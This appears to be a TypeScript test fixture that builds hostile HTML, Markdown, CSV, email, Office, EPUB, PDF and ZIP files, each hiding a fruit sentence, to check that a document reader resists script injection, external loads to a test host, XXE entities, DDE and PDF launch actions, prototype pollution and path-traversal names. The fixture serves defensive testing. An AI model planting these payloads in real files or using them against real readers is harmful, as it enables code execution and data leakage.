import { writeZip } from '../unit/readers/write-zip';
import { textFile, type NamedFile } from './open-page';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';

/** Markup that runs, loads, leads away or takes over, in every way that markup has; all of it reaches for `host`. */
export function hostileMarkup(host: string): string {
  const url = (path: string): string => `http://${host}/${path}`;
  return `
<base href="${url('base/')}"><meta http-equiv="refresh" content="0;url=${url('refresh')}">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="${url('sheet.css')}"><link rel="preload" as="font" href="${url('font.woff2')}"><link rel="dns-prefetch" href="${url('')}">
<link rel="icon" href="${url('icon.ico')}"><link rel="manifest" href="${url('manifest')}"><link rel="import" href="${url('import')}">
<style>@import url("${url('import.css')}"); @font-face { font-family: f; src: url("${url('face.woff')}"); } body { background: url("${url('back.png')}"); }</style>
<script>hacked = 'script'</script><script src="${url('a.js')}"></script><script type="module">import "${url('m.js')}"</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url('speculated')}"]}]}</script>
<img src="${url('pixel.png')}" srcset="${url('2x.png')} 2x" onerror="hacked='img'"><img src=x onerror=hacked=1>
<picture><source srcset="${url('source.webp')}"><img src="data:image/svg+xml,<svg onload=hacked=1>"></picture>
<video src="${url('v.mp4')}" poster="${url('poster.png')}" autoplay onloadstart="hacked='video'"><track src="${url('t.vtt')}"></video><audio src="${url('a.mp3')}" autoplay></audio>
<iframe src="${url('frame')}"></iframe><iframe srcdoc="<script>parent.hacked='srcdoc'</script>"></iframe><iframe src="javascript:parent.hacked=1"></iframe>
<frameset><frame src="${url('oldframe')}"></frameset>
<object data="${url('object.swf')}"></object><embed src="${url('embed')}"><applet code="${url('applet')}"></applet><portal src="${url('portal')}"></portal>
<form action="${url('form')}"><input name=a autofocus onfocus="hacked='focus'"><button formaction="javascript:hacked=1">send</button><input type=image src="${url('image.png')}"></form>
<a href="javascript:hacked='link'" ping="${url('ping')}">a link</a><a href="data:text/html,<script>opener.hacked=1</script>" target=_blank>another</a>
<svg onload="hacked='svg'"><script>hacked='svgscript'</script><image href="${url('svg.png')}"/><use href="${url('use.svg#a')}"/><animate onbegin="hacked='animate'" attributeName=x dur=1s /><foreignObject><img src=x onerror="hacked='foreign'"></foreignObject><style>@import "${url('svg.css')}"</style></svg>
<math><mtext><style><img src=x onerror="hacked='math'"></style></mtext><maction actiontype="statusline#x" xlink:href="javascript:hacked=1">m</maction></math>
<details open ontoggle="hacked='toggle'"><summary>s</summary></details><marquee onstart="hacked='marquee'">m</marquee><body onload="hacked='body'" background="${url('bg.png')}">
<template shadowrootmode="open"><img src=x onerror="hacked='shadow'"></template><noscript><p title="</noscript><img src=x onerror=hacked='noscript'>"></noscript>
<div style="background:url(${url('style.png')});behavior:url(${url('htc')})" onmouseover="hacked='over'" id="app" name="hacked">d</div>
<!--[if IE]><script>hacked='ie'</script><![endif]--><xml id=x src="${url('x.xml')}"></xml><bgsound src="${url('s.wav')}">`;
}

/** A file of every kind that is read, each with a fruit of its own in one sentence, and with all that a file of its kind can carry against a reader. */
export async function hostileDocuments(host: string): Promise<readonly { readonly file: NamedFile; readonly fruit: string }[]> {
  const markup = hostileMarkup(host);
  const url = `http://${host}`;
  const zip = async (name: string, files: Readonly<Record<string, string>>): Promise<NamedFile> =>
    textFile(name, Buffer.from(await writeZip(files, 0)));
  return [
    {
      fruit: 'apples',
      file: textFile(
        'h.html',
        `<!doctype html><html><head><title>Hostile</title>${markup}</head><body><p>A sentence about apples.</p>${markup}</body></html>`,
      ),
    },
    {
      fruit: 'figs',
      file: textFile(
        'h.xhtml',
        `<?xml version="1.0"?><?xml-stylesheet href="${url}/x.xsl" type="text/xsl"?><!DOCTYPE html [<!ENTITY e SYSTEM "${url}/entity">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>A sentence about figs.</p><p>&e;</p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}/include"/></body></html>`,
      ),
    },
    {
      fruit: 'plums',
      file: textFile(
        'h.md',
        `---\ntitle: "<img src=x onerror=hacked=1>"\n---\n\n# Plums <script>hacked=1</script>\n\nA sentence about plums. ![p](${url}/md.png) [l](javascript:hacked=1) <${url}/auto>\n\n[r]: ${url}/ref "t"\n![r][r]\n\n${markup}\n`,
      ),
    },
    { fruit: 'grapes', file: textFile('h.txt', `A sentence about grapes.\n${markup}`) },
    {
      fruit: 'cherries',
      file: textFile(
        'h.csv',
        `fruit,note\ncherries,"=HYPERLINK(""${url}/csv"",""A sentence about cherries."")"\nmore,"<img src=${url}/cell.png onerror=hacked=1>"\n`,
      ),
    },
    {
      fruit: 'lemons',
      file: textFile(
        'h.json',
        JSON.stringify([
          { text: `A sentence about lemons. ${markup}` },
          JSON.parse('{"text":"Another about limes.","__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}}'),
        ]),
      ),
    },
    {
      fruit: 'peaches',
      file: textFile(
        'h.eml',
        `Subject: =?utf-8?B?${Buffer.from('<img src=x onerror=hacked=1>').toString('base64')}?=\r\nDisposition-Notification-To: a@${host}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>A sentence about peaches.</p>${markup}\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL="${url}/external"\r\n\r\nContent-Type: text/plain\r\n\r\n--b\r\nContent-Type: text/html; name="../../evil.html"\r\nContent-Disposition: attachment; filename="../../evil.html"\r\n\r\n${markup}\r\n--b--\r\n`,
      ),
    },
    {
      fruit: 'quinces',
      file: await zip('h.docx', {
        '[Content_Types].xml':
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        '_rels/.rels': `<Relationships ${RELATIONS}><Relationship Id="r" Type="${OFFICE}/officeDocument" Target="word/document.xml"/><Relationship Id="e" Type="${OFFICE}/attachedTemplate" Target="${url}/template.dotm" TargetMode="External"/></Relationships>`,
        'word/_rels/document.xml.rels': `<Relationships ${RELATIONS}><Relationship Id="i" Type="${OFFICE}/image" Target="${url}/docx.png" TargetMode="External"/><Relationship Id="l" Type="${OFFICE}/hyperlink" Target="javascript:hacked=1" TargetMode="External"/><Relationship Id="o" Type="${OFFICE}/oleObject" Target="${url}/ole" TargetMode="External"/><Relationship Id="f" Type="${OFFICE}/frame" Target="${url}/frame" TargetMode="External"/><Relationship Id="a" Type="${OFFICE}/aFChunk" Target="../chunk.html"/></Relationships>`,
        'chunk.html': markup,
        'word/document.xml': `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}/docx-entity">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body><w:p><w:r><w:t>A sentence about quinces.</w:t></w:r><w:hyperlink r:id="l"><w:r><w:t>&lt;script&gt;hacked=1&lt;/script&gt;</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:instrText>INCLUDEPICTURE "${url}/field.png"</w:instrText><w:drawing><a:blip r:link="i"/></w:drawing></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p><w:altChunk r:id="a"/></w:body></w:document>`,
      }),
    },
    {
      fruit: 'medlars',
      file: await zip('h.xlsx', {
        '[Content_Types].xml': '<Types/>',
        'xl/workbook.xml': `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="&lt;img src=x onerror=hacked=1&gt;" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="x1"/></externalReferences></workbook>`,
        'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="r1" Target="worksheets/s1.xml"/><Relationship Id="x1" Type="${OFFICE}/externalLink" Target="${url}/book.xlsx" TargetMode="External"/></Relationships>`,
        'xl/sharedStrings.xml': '<sst/>',
        'xl/styles.xml': '<styleSheet/>',
        'xl/connections.xml': `<connections><connection id="1" type="4"><webPr url="${url}/query"/></connection></connections>`,
        'xl/worksheets/s1.xml': `<worksheet><sheetData><row r="1"><c t="inlineStr"><is><t>fruit</t></is></c><c t="inlineStr"><is><t>note</t></is></c></row><row r="2"><c t="inlineStr"><is><t>A sentence about medlars.</t></is></c><c t="str"><f>WEBSERVICE("${url}/service")</f><v>&lt;script&gt;hacked=1&lt;/script&gt;</v></c></row></sheetData><hyperlinks><hyperlink ref="A1" r:id="h"/></hyperlinks></worksheet>`,
      }),
    },
    {
      fruit: 'papayas',
      file: await zip('h.pptx', {
        'ppt/presentation.xml': '<p:presentation xmlns:p="p" xmlns:r="r"><p:sldIdLst><p:sldId r:id="r0"/></p:sldIdLst></p:presentation>',
        'ppt/_rels/presentation.xml.rels':
          '<Relationships><Relationship Id="r0" Type="x/slide" Target="slides/slide0.xml"/></Relationships>',
        'ppt/slides/_rels/slide0.xml.rels': `<Relationships><Relationship Id="m" Type="x/video" Target="${url}/slide.mp4" TargetMode="External"/><Relationship Id="n" Type="x/notesSlide" Target="${url}/notes.xml" TargetMode="External"/></Relationships>`,
        'ppt/slides/slide0.xml':
          '<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:nvPr><p:ph/></p:nvPr></p:nvSpPr><p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id="m" action="ppaction://program"/></a:rPr><a:t>A sentence about papayas.</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>',
      }),
    },
    {
      fruit: 'mulberries',
      file: await zip('h.epub', {
        mimetype: 'application/epub+zip',
        'META-INF/container.xml': '<container><rootfiles><rootfile full-path="OEBPS/book.opf"/></rootfiles></container>',
        'OEBPS/book.opf': `<package xmlns:dc="d"><metadata><dc:title>&lt;img src=x onerror=hacked=1&gt;</dc:title></metadata><manifest><item id="c" href="c.xhtml" properties="scripted remote-resources"/><item id="r" href="${url}/chapter.xhtml"/><item id="u" href="../../../etc/passwd"/></manifest><spine><itemref idref="c"/><itemref idref="r"/><itemref idref="u"/></spine></package>`,
        'OEBPS/c.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><head>${markup}</head><body><p>A sentence about mulberries.</p>${markup}</body></html>`,
      }),
    },
    { fruit: 'olives', file: textFile('h.pdf', hostilePdf(host)) },
    {
      fruit: 'dates',
      file: await zip('h.zip', {
        '../../../etc/dates.txt': 'A sentence about dates.',
        '/etc/absolute.txt': 'A sentence with an absolute path.',
        'C:\\Windows\\CON.txt': 'A sentence with a drive and a device.',
        '__proto__/constructor.txt': 'A sentence of a prototype.',
        'line\nbreak\u202etxt.exe.txt': 'A sentence with a name that turns.',
        [`${'long'.repeat(200)}.txt`]: 'A sentence with a long name.',
        '<img src=x onerror=hacked=1>.txt': 'A sentence with a name of markup.',
        'inner.html': `<p>A sentence of an archive.</p>${markup}`,
      }),
    },
  ];
}

/** A page of text with what PDF has for acting by itself: scripts, addresses, programs, forms that are sent, pictures and files from elsewhere. */
function hostilePdf(host: string): Buffer {
  const url = `http://${host}`;
  const content = 'BT /F0 12 Tf 60 760 Td (A sentence about olives.) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}/js"\\); this.hacked = 1;) >> /AA << /WC << /S /URI /URI (${url}/close) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> /EmbeddedFiles << /Names [(evil.html) 7 0 R] >> >> /AcroForm << /Fields [] /XFA 8 0 R >> >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F0 4 0 R >> /XObject << /X 9 0 R >> >> /Annots [6 0 R << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (${url}/submit) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (${url}/other.pdf) >> >>] /AA << /O << /S /URI /URI (${url}/open) >> >> >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:hacked=1) >> >>`,
    `<< /Type /Filespec /F (evil.html) /UF (..\\\\..\\\\evil.html) /FS /URL /EF << /F 8 0 R >> >>`,
    '<< /Length 42 >>\nstream\n<script>parent.hacked = "embedded"</script>\nendstream',
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (${url}/external.jpg) >> /Length 0 >>\nstream\n\nendstream`,
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((body, at) => {
    const offset = file.length;
    file += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}
